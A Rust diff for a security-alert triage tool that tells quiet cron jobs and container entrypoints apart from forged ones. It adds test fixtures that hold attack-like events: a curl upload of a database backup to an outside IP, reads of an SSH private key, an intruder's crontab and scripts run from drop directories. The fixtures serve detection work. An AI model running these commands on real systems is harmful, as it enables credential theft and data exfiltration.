@@ -16,8 +16,9 @@ use serde_json::{json, Value as Json};
 use crate::catalogue::{shipped_executable, Catalogue};
 use crate::cluster::{cluster, target, Cluster};
 use crate::evidence::{
-    activity, actor, in_drop_dir, is_credential, job_launcher, plain_service_command,
-    scheduled_job, target_sensitivity, unattended, Activity, Sensitivity,
+    activity, actor, in_drop_dir, is_credential, is_schedule_entry, job_launcher, job_runs_dropped,
+    plain_service_command, scheduled_job, scheduler_launcher, target_sensitivity, unattended,
+    workload_init, Activity, Sensitivity, WorkSeen,
 };
 use crate::history::History;
 use crate::input::{alerts, text, value_int, value_text, Alert, Fields, Record};
@@ -330,6 +331,8 @@ pub struct Stream<'a> {
     orig: Vec<usize>,
     alerts: Vec<Alert>,
     sessions: Sessions,
+    /// What every record (kept or only counted) shows of work nobody entered.
+    seen: WorkSeen,
     pushed: usize,
     /// Reused for session keys of plain events.
     key_buf: String,
@@ -349,6 +352,7 @@ impl Stream<'_> {
     pub fn push_evaluated(&mut self, r: Record, rules: Vec<String>) {
         let at = self.pushed;
         self.pushed += 1;
+        self.seen.note(&r);
         let t = self.triage;
         let is_maint = |n: &str| t.catalogue.entry_for_actor(n).is_some();
         let irrelevant = rules.is_empty() && activity(&r.event, &is_maint).is_none();
@@ -383,6 +387,12 @@ impl Stream<'_> {
             sid: ev.value("proc.sid").as_ref().and_then(value_int),
             pid: ev.value("proc.pid").as_ref().and_then(value_int),
         };
+        if let (Some(pid), Some(vpid)) = (
+            plain.pid,
+            ev.value("proc.vpid").as_ref().and_then(value_int),
+        ) {
+            self.seen.note_plain(plain.host, plain.container, pid, vpid);
+        }
         self.sessions.count_plain(&plain, &mut self.key_buf);
         true
     }
@@ -399,9 +409,14 @@ impl Stream<'_> {
         progress: &mut dyn FnMut(usize, usize),
     ) -> Vec<ClusterReport> {
         self.sessions.finish(self.triage.catalogue);
-        let mut reports =
-            self.triage
-                .run_core(&self.kept, &self.alerts, self.sessions, weights, progress);
+        let mut reports = self.triage.run_core(
+            &self.kept,
+            &self.alerts,
+            self.sessions,
+            &self.seen,
+            weights,
+            progress,
+        );
         for r in &mut reports {
             for m in &mut r.members {
                 *m = self.orig.get(*m).copied().unwrap_or(*m);
@@ -425,8 +440,10 @@ pub fn cannot_be_activity(ev: &impl Fields) -> bool {
     };
     match ty.as_ref() {
         "execve" | "execveat" | "connect" | "dup" | "dup2" | "dup3" => false,
+        // A schedule entry renamed or linked into place (`Activity::WroteSchedule`).
+        "rename" | "renameat" | "renameat2" | "link" | "linkat" | "symlink" | "symlinkat" => false,
         "open" | "openat" | "openat2" => match ev.value("fd.name").as_ref().and_then(value_text) {
-            Some(path) => !is_credential(&path) && !in_drop_dir(&path),
+            Some(path) => !is_credential(&path) && !in_drop_dir(&path) && !is_schedule_entry(&path),
             None => true,
         },
         _ => true,
@@ -493,7 +510,8 @@ impl Triage<'_> {
     ) -> Vec<ClusterReport> {
         let all = alerts(self.engine, records);
         let sessions = Sessions::build(records, self.catalogue);
-        self.run_core(records, &all, sessions, weights, progress)
+        let seen = WorkSeen::build(records);
+        self.run_core(records, &all, sessions, &seen, weights, progress)
     }
 
     /// The rules a record stands for: the rule an alert line names, or the first rule an
@@ -520,6 +538,7 @@ impl Triage<'_> {
             orig: Vec::new(),
             alerts: Vec::new(),
             sessions: Sessions::default(),
+            seen: WorkSeen::default(),
             pushed: 0,
             key_buf: String::new(),
         }
@@ -530,6 +549,7 @@ impl Triage<'_> {
         records: &[Record],
         all: &[Alert],
         mut sessions: Sessions,
+        seen: &WorkSeen,
         weights: &Weights,
         progress: &mut dyn FnMut(usize, usize),
     ) -> Vec<ClusterReport> {
@@ -582,7 +602,7 @@ impl Triage<'_> {
             // anchored (so that a cluster never mixes alerts whose verdicts could differ).
             let mut parts: Vec<(PartKey, Agg)> = Vec::new();
             for &i in &c.members {
-                let (mut hits, facts) = self.signals_for(rule, records, i, &sessions);
+                let (mut hits, facts) = self.signals_for(rule, records, i, &sessions, seen);
                 hits.extend(hist_hits.iter().cloned());
                 let logit: f64 = hits.iter().map(|h| w(h.id) * h.act).sum();
                 let vetoed = hits.iter().any(|h| vetoes(h.id, w(h.id) * h.act));
@@ -701,6 +721,7 @@ impl Triage<'_> {
         records: &[Record],
         at: usize,
         sessions: &Sessions,
+        seen: &WorkSeen,
     ) -> (Vec<Hit>, AnchorFacts) {
         let mut out = Vec::new();
         let Some(r) = records.get(at) else {
@@ -737,13 +758,27 @@ impl Triage<'_> {
         // lineage: its connections to the host's or the site's own networks are its work
         // (a backup server, a database probe), and credentials it reads are not stolen
         // while nothing in its session reached outside the site (issue 11).
-        let job = scheduled_job(ev);
-        let launcher = job_launcher(ev);
         let reached_outside = ctx.iter().any(|c| c.act.outside);
+        // Work nobody entered, by lineage shape (session 7): a container workload's own
+        // process tree, and a scheduler's job with its forgeries closed.
+        let work = unattended_work(r, seen, reached_outside);
+        // A workload's connections inside the site are its work (a controller calling the
+        // API server, a sidecar its database), as for a job; its credential reads count in
+        // full: a pod's own entrypoint reading the service account token and calling the
+        // API is how a pod created by an intruder works.
+        let job = scheduled_job(ev);
+        let inside_work = job || work.workload.is_some();
+        let launcher = job_launcher(ev).or_else(|| {
+            if !reached_outside {
+                work.launcher(lang)
+            } else {
+                None
+            }
+        });
         let outbound = ctx
             .iter()
             .filter(counts)
-            .filter(|c| !job || c.act.outside)
+            .filter(|c| !inside_work || c.act.outside)
             .find(|c| matches!(c.act.activity, Activity::Outbound(..)));
         let net_stdio = ctx
             .iter()
@@ -1034,22 +1069,39 @@ impl Triage<'_> {
             target_sensitivity(ev),
             Some((_, Sensitivity::High | Sensitivity::Persistence))
         );
+        // The workload's own init binary (the image's entrypoint, not written after the
+        // container started) is its own program even outside the system's directories.
+        let own_program =
+            shipped_executable(ev) || work.workload.as_ref().is_some_and(|w| w.level == 0);
+        let mut quiet_job = false;
         if let Some(l) = launcher.as_ref().filter(|_| {
             kinds.is_empty()
                 && dropped.is_none()
                 && a.network_stdio.is_none()
-                && shipped_executable(ev)
+                && own_program
                 && !(sensitive_target && reached_outside)
                 && sessions.seen(records, at)
         }) {
             out.push(hit("job_quiet", 1.0, vec![("launcher", l.clone())]));
+            // Only a scheduler's or a CI runner's job: a workload's entrypoint reading
+            // the host's files (a hostPath mount) is no job's purpose.
+            quiet_job =
+                work.workload.is_none() || job_launcher(ev).is_some() || work.cron.is_some();
+        }
+        // A quiet job that only READS a sensitive file, with nothing in its session
+        // reaching outside the site: reading it is the job's purpose (a backup archiving
+        // /etc, an audit scanner checking shadow), not a step toward taking it away.
+        if quiet_job && !reached_outside && reads_only(ev) {
+            if let Some((t, Sensitivity::High)) = target_sensitivity(ev) {
+                out.push(hit("job_reads_by_purpose", 1.0, vec![("target", t)]));
+            }
         }
         let installed = ctx.iter().any(|c| {
             matches!(&c.act.activity, Activity::Maintenance(n) if crate::evidence::role(n) == crate::evidence::Role::PackageManager)
         });
         let facts = AnchorFacts {
             quiet: kinds.is_empty() && interactive && !installed && sessions.seen(records, at),
-            unattended: unattended(ev),
+            unattended: (unattended(ev) && !work.cron_refuted) || work.workload.is_some(),
             harmless_act: cat
                 .as_ref()
                 .is_some_and(|m| m.entry.anchor_always && shipped_executable(ev)),
@@ -1193,6 +1245,74 @@ impl Triage<'_> {
             anchor,
         }
     }
+}
+
+/// Work nobody entered, as the lineage and the whole input show it (see
+/// [`unattended_work`]).
+#[derive(Debug, Default)]
+struct Work {
+    /// A container workload's own process tree, not refuted by what quell saw, and no
+    /// contact outside the site in its session.
+    workload: Option<crate::evidence::WorkloadInit>,
+    /// A scheduler's job whose forgeries are closed: its launcher's name.
+    cron: Option<String>,
+    /// A scheduler's job whose schedule was written in the input before it, or which runs
+    /// a dropped script: never anchored as unattended.
+    cron_refuted: bool,
+}
+
+impl Work {
+    /// The launcher text of `job_quiet` for a scheduler's job or a workload.
+    fn launcher(&self, lang: Lang) -> Option<String> {
+        if let Some(c) = &self.cron {
+            return Some(c.clone());
+        }
+        self.workload.as_ref().map(|w| {
+            lang.t(
+                format!("the container's entrypoint {}", w.name),
+                format!("コンテナのエントリポイント {}", w.name),
+            )
+        })
+    }
+}
+
+/// Work nobody entered, by lineage shape (issue 11, session 7):
+/// - a container workload's own process tree ([`workload_init`]): refuted when quell saw
+///   the topmost process with a pid other than 1 in its container (an `exec`'d process
+///   re-parented to the shim) or the event carries no pid for it; never with a contact
+///   outside the site in the session;
+/// - a scheduler's job ([`scheduler_launcher`]): refuted when a schedule entry of the same
+///   host and container was written at or before it anywhere in the input, or the job runs
+///   a script or program from a drop directory; for `job_quiet` also never with a contact
+///   outside the site in the session, nor with a schedule entry as its target.
+fn unattended_work(r: &Record, seen: &WorkSeen, reached_outside: bool) -> Work {
+    let ev = &r.event;
+    let workload = workload_init(ev).filter(|w| {
+        !reached_outside && (w.level == 0 || w.pid.is_some_and(|p| !seen.not_init(r, p)))
+    });
+    let sched = scheduler_launcher(ev);
+    let cron_refuted =
+        sched.is_some() && (seen.schedule_written_before(r) || job_runs_dropped(ev).is_some());
+    let target_is_schedule = target(ev).is_some_and(|(_, t)| is_schedule_entry(&t));
+    let cron = sched.filter(|_| !cron_refuted && !reached_outside && !target_is_schedule);
+    Work {
+        workload,
+        cron,
+        cron_refuted,
+    }
+}
+
+/// Whether the event opens its file for reading only.
+fn reads_only(ev: &FlatEvent) -> bool {
+    let flag = |k: &str| matches!(ev.get(k), Some(quell_rules::Value::Bool(true)));
+    matches!(
+        text(ev, "evt.type").as_deref(),
+        Some("open" | "openat" | "openat2")
+    ) && flag("evt.is_open_read")
+        && !flag("evt.is_open_write")
+        && !text(ev, "evt.arg.flags").is_some_and(|f| {
+            f.contains("O_WRONLY") || f.contains("O_RDWR") || f.contains("O_TRUNC")
+        })
 }
 
 fn capitalise(s: &str) -> String {
@@ -2061,8 +2181,14 @@ mod tests {
                 assert_ne!(c.verdict, Verdict::LikelyFalsePositive, "{why}: {c:#?}");
             }
         };
-        let cron = json!({"proc.tty":0,"proc.aname[2]":"cron","proc.aname[3]":"systemd"});
-        not_anchored(job(801, cron, "/usr/bin/rm", vec![]), "cron");
+        // A cron job is anchored only with its forgeries closed (session 7, see
+        // `a_quiet_cron_job_is_anchored_and_its_forgeries_are_not`): here a job running a
+        // script from /tmp.
+        let cron = json!({"proc.tty":0,"proc.aname[2]":"cron","proc.aname[3]":"systemd","proc.pcmdline":"bash /tmp/.c/job.sh"});
+        not_anchored(
+            job(801, cron, "/usr/bin/rm", vec![]),
+            "cron running a dropped script",
+        );
         let orphan = json!({"proc.tty":0,"proc.aname[2]":"systemd"});
         not_anchored(
             job(802, orphan, "/usr/bin/rm", vec![]),
@@ -2202,5 +2328,258 @@ mod tests {
             let r = verdict_of(&sh(sid, cmd), "Run shell untrusted");
             assert_eq!(r[0].verdict, Verdict::LikelyReal, "{cmd}: {:#?}", r[0]);
         }
+    }
+
+    /// Session 7 (helper unattended): the events of one job: `before`, then `rm` deleting
+    /// a log, with `lineage` (and the session id, host and time) filled into each.
+    fn lineage_job(
+        sid: i64,
+        t0: i64,
+        lineage: &serde_json::Value,
+        before: Vec<serde_json::Value>,
+    ) -> Vec<String> {
+        let mut evs = before;
+        evs.push(json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":t0 + 10,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.cmdline":"rm -f /var/log/app/old.log"}));
+        evs.push(json!({"evt.type":"unlinkat","evt.rawres":0,"evt.rawtime":t0 + 11,"proc.name":"rm","proc.exepath":"/usr/bin/rm","fs.path.name":"/var/log/app/old.log"}));
+        evs.into_iter()
+            .map(|mut v| {
+                v["proc.sid"] = json!(sid);
+                for (k, val) in lineage.as_object().unwrap() {
+                    if v.get(k).is_none() {
+                        v[k] = val.clone();
+                    }
+                }
+                l(v)
+            })
+            .collect()
+    }
+
+    fn assert_anchored_by(lines: &[String], rule: &str, launcher_part: &str) {
+        let r = verdict_of(lines, rule);
+        assert_eq!(r.len(), 1, "{r:#?}");
+        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        assert!(signals(&r[0]).contains(&"job_quiet"), "{:#?}", r[0]);
+        let text = serde_json::to_string(&r[0].to_json()).unwrap();
+        assert!(text.contains(launcher_part), "{launcher_part}: {text}");
+    }
+
+    fn assert_not_anchored(lines: &[String], rule: &str, why: &str) {
+        let r = verdict_of(lines, rule);
+        assert!(!r.is_empty(), "{why}");
+        for c in &r {
+            assert!(!signals(c).contains(&"job_quiet"), "{why}: {c:#?}");
+            assert_ne!(c.verdict, Verdict::LikelyFalsePositive, "{why}: {c:#?}");
+        }
+    }
+
+    /// Issue 11 (session 7): a cron job run by the system's own program, whose session
+    /// quell saw with nothing in it toward an attack, is anchored by its lineage shape
+    /// (scheduler → job shell). Its forgeries are not: a schedule entry of the same host
+    /// written before it anywhere in the input (an intruder's crontab, from any session),
+    /// `crontab` installing a table, a job running a script from a drop directory, a job
+    /// whose session reaches outside the site, a terminal. A package's own cron entry
+    /// written by the package manager does not count as a schedule change.
+    #[test]
+    fn a_quiet_cron_job_is_anchored_and_its_forgeries_are_not() {
+        let cron = json!({"proc.tty":0,"proc.pname":"sh","proc.pcmdline":"sh -c rm -f /var/log/app/old.log","proc.aname[2]":"cron","proc.aname[3]":"systemd"});
+        let rule = "Clear Log Activities";
+        assert_anchored_by(&lineage_job(900, 1000, &cron, vec![]), rule, "cron");
+        // The intruder's crontab, written in another session before the job.
+        let wrote = |path: &str, writer: &str, parent: &str| json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":5,"proc.sid":42,"proc.name":writer,"proc.pname":parent,"proc.tty":34816,"fd.name":path,"evt.is_open_write":true,"fd.num":3});
+        let mut lines = vec![l(wrote("/etc/cron.d/sync", "bash", "php-fpm"))];
+        lines.extend(lineage_job(901, 1000, &cron, vec![]));
+        assert_not_anchored(&lines, rule, "cron.d written before the job");
+        let mut lines = vec![l(wrote("/var/spool/cron/crontabs/root", "vi", "bash"))];
+        lines.extend(lineage_job(902, 1000, &cron, vec![]));
+        assert_not_anchored(&lines, rule, "root's crontab written before the job");
+        let mut lines = vec![l(
+            json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":6,"proc.sid":43,"proc.name":"crontab","proc.cmdline":"crontab /tmp/c","proc.pname":"sh"}),
+        )];
+        lines.extend(lineage_job(903, 1000, &cron, vec![]));
+        assert_not_anchored(&lines, rule, "crontab installed a table");
+        // The same entry written AFTER the job, or by a package's maintainer script:
+        // still anchored.
+        let mut lines = lineage_job(904, 1000, &cron, vec![]);
+        lines.push(l(json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":5000,"proc.sid":44,"proc.name":"bash","proc.pname":"sshd","proc.tty":34816,"fd.name":"/etc/cron.d/sync","evt.is_open_write":true,"fd.num":3})));
+        assert_anchored_by(&lines, rule, "cron");
+        let mut lines = vec![l(
+            json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":5,"proc.sid":45,"proc.name":"sysstat.postins","proc.pname":"dpkg","proc.aname[2]":"apt-get","fd.name":"/etc/cron.d/sysstat","evt.is_open_write":true,"fd.num":3}),
+        )];
+        lines.extend(lineage_job(905, 1000, &cron, vec![]));
+        assert_anchored_by(&lines, rule, "cron");
+        // A job running a dropped script; a job whose session uploads outside the site;
+        // a terminal.
+        let dropped = json!({"proc.tty":0,"proc.pname":"sh","proc.pcmdline":"sh -c /dev/shm/.u/run","proc.aname[2]":"cron","proc.aname[3]":"systemd"});
+        assert_not_anchored(
+            &lineage_job(906, 1000, &dropped, vec![]),
+            rule,
+            "a dropped script",
+        );
+        let upload = json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":1001,"proc.name":"curl","proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -sT /var/backups/db.gz https://203.0.113.50/u"});
+        assert_not_anchored(
+            &lineage_job(907, 1000, &cron, vec![upload]),
+            rule,
+            "an upload outside the site",
+        );
+        let tty = json!({"proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"cron"});
+        assert_not_anchored(&lineage_job(908, 1000, &tty, vec![]), rule, "a terminal");
+    }
+
+    /// Issue 11 (session 7): a quiet cron job that only reads a sensitive file, nothing in
+    /// its session reaching outside the site, is a likely false positive
+    /// (`job_reads_by_purpose` offsets `target_sensitive`); the same read with an upload
+    /// outside the site is not; a person's read is not anchored.
+    #[test]
+    fn a_quiet_jobs_read_of_a_sensitive_file_is_its_purpose_only_inside_the_site() {
+        let read = |sid: i64, lineage: &serde_json::Value, before: Vec<serde_json::Value>| {
+            let mut evs = before;
+            evs.push(json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":20,"proc.name":"tar","proc.exepath":"/usr/bin/tar","proc.cmdline":"tar czf /var/backups/home.tgz /root"}));
+            evs.push(json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":21,"proc.name":"tar","proc.exepath":"/usr/bin/tar","fd.name":"/root/.ssh/id_ed25519","evt.is_open_read":true,"fd.num":3}));
+            evs.into_iter()
+                .map(|mut v| {
+                    v["proc.sid"] = json!(sid);
+                    for (k, val) in lineage.as_object().unwrap() {
+                        if v.get(k).is_none() {
+                            v[k] = val.clone();
+                        }
+                    }
+                    l(v)
+                })
+                .collect::<Vec<String>>()
+        };
+        let cron = json!({"proc.tty":0,"proc.pname":"sh","proc.pcmdline":"sh -c tar czf /var/backups/home.tgz /root","proc.aname[2]":"cron","proc.aname[3]":"systemd"});
+        let r = verdict_of(&read(950, &cron, vec![]), "Read ssh");
+        assert_eq!(r.len(), 1, "{r:#?}");
+        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        let s = signals(&r[0]);
+        assert!(
+            s.contains(&"job_reads_by_purpose") && s.contains(&"target_sensitive"),
+            "{s:?}"
+        );
+        let out = json!({"evt.type":"connect","evt.rawres":0,"evt.rawtime":30,"proc.name":"tar","fd.sip":"198.51.100.20","fd.sport":443,"fd.name":"10.0.0.5:40000->198.51.100.20:443"});
+        for c in verdict_of(&read(951, &cron, vec![out]), "Read ssh") {
+            assert!(!signals(&c).contains(&"job_reads_by_purpose"), "{c:#?}");
+            assert_ne!(c.verdict, Verdict::LikelyFalsePositive, "{c:#?}");
+        }
+        let person = json!({"proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"});
+        for c in verdict_of(&read(952, &person, vec![]), "Read ssh") {
+            assert!(!signals(&c).contains(&"job_reads_by_purpose"), "{c:#?}");
+            assert_ne!(c.verdict, Verdict::LikelyFalsePositive, "{c:#?}");
+        }
+    }
+
+    /// Issue 11 (session 7): a container workload's own process tree (the entrypoint
+    /// shell under the runtime's shim, nothing entered) is anchored; its forgeries are
+    /// not: the same names above an exec'd shell quell saw with a pid other than 1 in the
+    /// container (a `runc exec` re-parented to the shim), a runtime exec in the lineage, a
+    /// privileged container (a pod created to break out), an application between the
+    /// entrypoint and the shell (a web application's command injection), a credential
+    /// read (counted in full for a workload, unlike a scheduled job's) or a contact
+    /// outside the site in the session.
+    #[test]
+    fn a_workloads_own_tree_is_anchored_and_its_forgeries_are_not() {
+        let rule = "Clear Log Activities";
+        let ctr = |extra: serde_json::Value| {
+            let mut v = json!({"container.id":"c0ffee000001","container.privileged":false,"proc.tty":0,"proc.vpid":9,"proc.pname":"sh","proc.aname[2]":"containerd-shim","proc.apid[1]":4001,"proc.apid[2]":4000,"thread.cap_effective":"CAP_CHOWN CAP_KILL"});
+            for (k, val) in extra.as_object().unwrap() {
+                v[k] = val.clone();
+            }
+            v
+        };
+        assert_anchored_by(
+            &lineage_job(960, 1000, &ctr(json!({})), vec![]),
+            rule,
+            "entrypoint sh",
+        );
+        // The shell is an exec'd one: quell saw it with vpid 7.
+        let mut lines = vec![l(
+            json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":900,"proc.sid":961,"proc.pid":4001,"proc.vpid":7,"proc.name":"sh","container.id":"c0ffee000001","proc.pname":"runc","proc.tty":0}),
+        )];
+        lines.extend(lineage_job(961, 1000, &ctr(json!({})), vec![]));
+        assert_not_anchored(&lines, rule, "an exec'd shell re-parented to the shim");
+        // The event says nothing of the shell's pid: not anchored either.
+        let mut no_pid = ctr(json!({}));
+        no_pid.as_object_mut().unwrap().remove("proc.apid[1]");
+        assert_not_anchored(&lineage_job(962, 1000, &no_pid, vec![]), rule, "no pid");
+        assert_not_anchored(
+            &lineage_job(
+                963,
+                1000,
+                &ctr(json!({"proc.aname[2]":"runc","proc.aname[3]":"containerd-shim"})),
+                vec![],
+            ),
+            rule,
+            "a runtime exec",
+        );
+        assert_not_anchored(
+            &lineage_job(
+                964,
+                1000,
+                &ctr(json!({"container.privileged":true})),
+                vec![],
+            ),
+            rule,
+            "a privileged container",
+        );
+        assert_not_anchored(
+            &lineage_job(
+                965,
+                1000,
+                &ctr(json!({"thread.cap_effective":"CAP_CHOWN CAP_SYS_ADMIN"})),
+                vec![],
+            ),
+            rule,
+            "CAP_SYS_ADMIN",
+        );
+        assert_not_anchored(
+            &lineage_job(
+                966,
+                1000,
+                &ctr(json!({"proc.aname[2]":"node","proc.aname[3]":"containerd-shim"})),
+                vec![],
+            ),
+            rule,
+            "an application between the entrypoint and the shell",
+        );
+        let token = json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":1001,"proc.name":"cat","proc.exepath":"/usr/bin/cat","fd.name":"/root/.ssh/id_ed25519","evt.is_open_read":true,"fd.num":3});
+        assert_not_anchored(
+            &lineage_job(967, 1000, &ctr(json!({})), vec![token]),
+            rule,
+            "a credential read",
+        );
+        let out = json!({"evt.type":"connect","evt.rawres":0,"evt.rawtime":1001,"proc.name":"wget","fd.sip":"198.51.100.20","fd.sport":443,"fd.name":"10.0.0.5:40000->198.51.100.20:443"});
+        assert_not_anchored(
+            &lineage_job(968, 1000, &ctr(json!({})), vec![out]),
+            rule,
+            "a contact outside the site",
+        );
+        // The entrypoint itself (pid 1), when it is not an interpreter.
+        let init = json!({"container.id":"c0ffee000002","proc.tty":0,"proc.vpid":1,"proc.pid":5000,"proc.pname":"containerd-shim"});
+        let lines: Vec<String> = vec![
+            l(json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":10,"proc.sid":970,"proc.name":"logpruner","proc.exepath":"/app/logpruner","fd.name":"/etc/app.conf","evt.is_open_read":true,"fd.num":3})),
+            l(json!({"evt.type":"unlinkat","evt.rawres":0,"evt.rawtime":11,"proc.sid":970,"proc.name":"logpruner","proc.exepath":"/app/logpruner","fs.path.name":"/var/log/app/old.log"})),
+        ]
+        .into_iter()
+        .map(|s| {
+            let mut v: serde_json::Value = serde_json::from_str(&s).unwrap();
+            for (k, val) in init.as_object().unwrap() {
+                v[k] = val.clone();
+            }
+            l(v)
+        })
+        .collect();
+        assert_anchored_by(&lines, rule, "entrypoint logpruner");
+        let interp: Vec<String> = lines
+            .iter()
+            .map(|s| {
+                s.replace("logpruner", "node")
+                    .replace("c0ffee000002", "c0ffee000003")
+            })
+            .collect();
+        assert_not_anchored(
+            &interp,
+            rule,
+            "an interpreter as pid 1 (code run in an app)",
+        );
     }
 }
